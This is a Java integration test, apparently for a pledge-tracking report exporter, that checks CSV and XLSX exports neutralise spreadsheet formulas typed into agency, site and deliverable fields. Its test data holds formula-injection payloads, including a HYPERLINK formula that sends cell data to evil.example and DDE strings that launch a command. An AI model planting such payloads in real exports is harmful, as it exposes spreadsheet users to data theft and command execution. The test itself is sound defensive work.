package org.pledgetrack.batch.report;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.pledgetrack.batch.BatchTestApplication;
import org.pledgetrack.batch.launch.SnapshotJobLauncher;
import org.pledgetrack.core.account.UserRepository;
import org.pledgetrack.core.report.ReportFormat;
import org.pledgetrack.core.report.ReportService;
import org.pledgetrack.core.report.ReportType;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.JdbcTemplate;

/**
 * CSV injection (OWASP): for each report type, spreadsheet formulas typed into the text fields it
 * shows (agency name and city, focus-area name, grant site, deliverable title, TA provider name,
 * item owner and title) reach the CSV as quoted text behind a single quote, and the XLSX as text
 * cells holding exactly what was typed. The fields are put back after each case.
 */
@SpringBootTest(classes = BatchTestApplication.class)
class ReportCsvInjectionIntegrationTests {

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/steal?d=\"&A1,\"Open\")";

    @Autowired
    private ReportJobLauncher launcher;
    @Autowired
    private ReportService reports;
    @Autowired
    private SnapshotJobLauncher snapshots;
    @Autowired
    private UserRepository users;
    @Autowired
    private JdbcTemplate jdbc;

    private GeneratedReports generated;

    @BeforeEach
    void snapshots() {
        generated = new GeneratedReports(launcher, reports, snapshots, users, jdbc, ReportJobIntegrationTests.AS_OF)
                .withSnapshots();
    }

    /** A text field of one record, the column it shows in, and the formula typed into it. */
    record Field(String table, String column, String idSql, String header, String formula) {
    }

    static Stream<Arguments> textFieldsOfEveryReportType() {
        String wichita = "SELECT o.id FROM organization o JOIN app_user u ON u.organization_id = o.id"
                + " WHERE u.username = 'wichita.agency'";
        String asOf = "'" + ReportJobIntegrationTests.AS_OF + "'";
        String overdue = "SELECT t.id FROM ta_deliverable t WHERE t.due_on < " + asOf + " AND t.status <> 'CANCELLED'"
                + " AND (t.delivered_on IS NULL OR t.delivered_on > " + asOf + ") ORDER BY t.due_on, t.id LIMIT 1";
        String provider = "SELECT MIN(scope_id) FROM deliverable_snapshot WHERE scope_type = 'PROVIDER'";
        String wichitaItem = "SELECT pi.id FROM pledge_item pi JOIN catalog_item ci ON ci.id = pi.catalog_item_id"
                + " WHERE ci.number = 1 AND pi.pledge_id = (SELECT pledge_id FROM agency_snapshot"
                + " WHERE as_of = " + asOf + " AND agency_id = (" + wichita + "))";
        return Stream.of(
                Arguments.of(ReportType.AGENCY_STATUS, List.of(
                        new Field("organization", "name", wichita, "Agency", HYPERLINK),
                        new Field("organization", "city", wichita, "City", "+1+cmd|' /C calc'!A0"))),
                Arguments.of(ReportType.FOCUS_AREA_SUMMARY, List.of(new Field("focus_area", "name",
                        "SELECT id FROM focus_area WHERE position = 1 AND catalog_version_id = (SELECT MAX(id) FROM catalog_version)",
                        "Focus area", "@SUM(1+1)*cmd|' /C calc'!A0"))),
                Arguments.of(ReportType.GRANT_DELIVERABLES, List.of(new Field("bcji_grant", "site_name",
                        "SELECT MIN(scope_id) FROM deliverable_snapshot WHERE scope_type = 'GRANT'", "Site", HYPERLINK))),
                Arguments.of(ReportType.OVERDUE_DELIVERABLES, List.of(
                        new Field("ta_deliverable", "title", overdue, "Deliverable", "-2+3+cmd|' /C calc'!A0"),
                        new Field("organization", "name", "SELECT provider_org_id FROM ta_deliverable WHERE id = ("
                                + overdue + ")", "TA provider", "\t=1+1"))),
                Arguments.of(ReportType.PROVIDER_ACTIVITY, List.of(new Field("organization", "name", provider,
                        "TA provider", HYPERLINK))),
                Arguments.of(ReportType.AGENCY_ITEMS, List.of(
                        new Field("pledge_item", "owner_name", wichitaItem, "Owner", HYPERLINK),
                        new Field("catalog_item", "title", "SELECT catalog_item_id FROM pledge_item WHERE id = ("
                                + wichitaItem + ")", "Title", "\r=1+1"))));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("textFieldsOfEveryReportType")
    void formulaInATextFieldReachesTheCsvAsText(ReportType type, List<Field> fields) throws Exception {
        List<Runnable> restore = new ArrayList<>();
        try {
            for (Field field : fields) {
                restore.add(type(field));
            }

            String csv = new String(generated.generate(type, ReportFormat.CSV), StandardCharsets.UTF_8);
            List<List<String>> rows = ReportFileReader.csv(csv.getBytes(StandardCharsets.UTF_8));
            for (Field field : fields) {
                int column = rows.getFirst().indexOf(field.header());
                assertThat(rows.stream().skip(1).map(row -> row.get(column))).as(field.header())
                        .contains("'" + field.formula());
                assertThat(csv).contains("\"'" + field.formula().replace("\"", "\"\"") + "\"");
            }
            assertThat(rows.stream().flatMap(List::stream))
                    .as("no cell of the file starts a formula: text is guarded, and there are no negative numbers here")
                    .noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);

            try (XSSFWorkbook workbook = ReportFileReader.xlsx(generated.generate(type, ReportFormat.XLSX))) {
                XSSFSheet sheet = workbook.getSheetAt(0);
                for (Field field : fields) {
                    assertThat(cellsOf(sheet, field.header())).as(field.header())
                            .anyMatch(cell -> cell.getCellType() == CellType.STRING
                                    && cell.getStringCellValue().equals(field.formula()))
                            .noneMatch(cell -> cell.getCellType() == CellType.FORMULA);
                }
            }
        } finally {
            restore.forEach(Runnable::run);
        }
    }

    /** Types the formula into the field and returns what puts the old value back. */
    private Runnable type(Field field) {
        Long id = jdbc.queryForObject(field.idSql(), Long.class);
        String update = "UPDATE " + field.table() + " SET " + field.column() + " = ? WHERE id = ?";
        String old = jdbc.queryForObject("SELECT " + field.column() + " FROM " + field.table() + " WHERE id = ?",
                String.class, id);
        updateGuarded(field.table(), () -> jdbc.update(update, field.formula(), id));
        return () -> updateGuarded(field.table(), () -> jdbc.update(update, old, id));
    }

    /**
     * The catalog's wording reaches reports only through a published version, which a trigger keeps from
     * changing (a new wording is a new version). Building a version is beside the point here, so for the
     * one update the trigger is lifted and put back as migration V190 has it.
     */
    private void updateGuarded(String table, Runnable update) {
        if (!List.of("focus_area", "catalog_item").contains(table)) {
            update.run();
            return;
        }
        String trigger = "tr_" + table + "_published_update";
        jdbc.execute("DROP TRIGGER " + trigger);
        try {
            update.run();
        } finally {
            jdbc.execute("CREATE TRIGGER " + trigger + " BEFORE UPDATE ON " + table
                    + " FOR EACH ROW CALL require_catalog_draft(OLD.catalog_version_id)");
        }
    }

    private static List<Cell> cellsOf(XSSFSheet sheet, String header) {
        Row headers = sheet.getRow(0);
        int column = -1;
        for (Cell cell : headers) {
            if (cell.getStringCellValue().equals(header)) {
                column = cell.getColumnIndex();
            }
        }
        List<Cell> cells = new ArrayList<>();
        for (Row row : sheet) {
            if (row.getRowNum() > 0 && row.getCell(column) != null) {
                cells.add(row.getCell(column));
            }
        }
        return cells;
    }
}
